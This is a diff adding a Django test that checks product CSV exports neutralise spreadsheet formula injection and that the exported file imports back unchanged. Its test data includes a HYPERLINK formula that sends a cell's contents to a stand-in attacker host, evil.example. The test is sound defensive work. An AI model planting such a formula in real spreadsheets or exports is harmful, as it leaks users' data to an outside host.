@@ -154,6 +154,55 @@ def test_an_export_imports_back_unchanged(tenant, django_capture_on_commit_callb
     assert versions == {2}  # each row was written again, as the same values
 
 
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tTabbed",
+    "\rReturned",
+    "'=already quoted",
+    "'plain quote",
+]
+
+
+def test_cells_a_spreadsheet_would_run_are_exported_inert_and_import_back_unchanged(
+    tenant, django_capture_on_commit_callbacks
+):
+    # Names, descriptions and tags that a spreadsheet would read as formulas (names and tags
+    # are trimmed on the way in, descriptions are kept as written)
+    for n, text in enumerate(FORMULAS):
+        make_product(tenant, sku=f"F-{n}", name=text.strip(), description=text, tags=[text.strip()])
+    editor = editor_client(tenant)
+    exported = editor.get(EXPORT)
+    content = b"".join(exported.streaming_content)
+
+    # Then no cell of the file starts a formula: each such value is behind a '
+    rows = list(csv.reader(io.StringIO(content.decode())))
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    names = {row[COLUMNS.index("name")] for row in rows[1:]}
+    assert '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")' in names
+    assert "''=already quoted" in names
+    assert "'plain quote" in names
+
+    # And the file imports back to the very same values
+    before = export_rows(editor)
+    with tasks_run_inline(), django_capture_on_commit_callbacks(execute=True):
+        response = editor.post(
+            IMPORT,
+            {"file": SimpleUploadedFile("export.csv", content, content_type="text/csv")},
+            format="multipart",
+        )
+    job = editor.get(response["Location"]).json()
+    assert (job["status"], job["succeeded"], job["failed"]) == ("succeeded", len(FORMULAS), 0)
+    assert export_rows(editor) == before
+    with outcome():
+        stored = dict(Product.objects.filter(tenant=tenant).values_list("sku", "description"))
+    assert stored == {f"F-{n}": text for n, text in enumerate(FORMULAS)}
+
+
 def test_export_honours_the_list_filters(tenant):
     shoes = make_category(tenant)
     boots = make_category(tenant, parent=shoes)
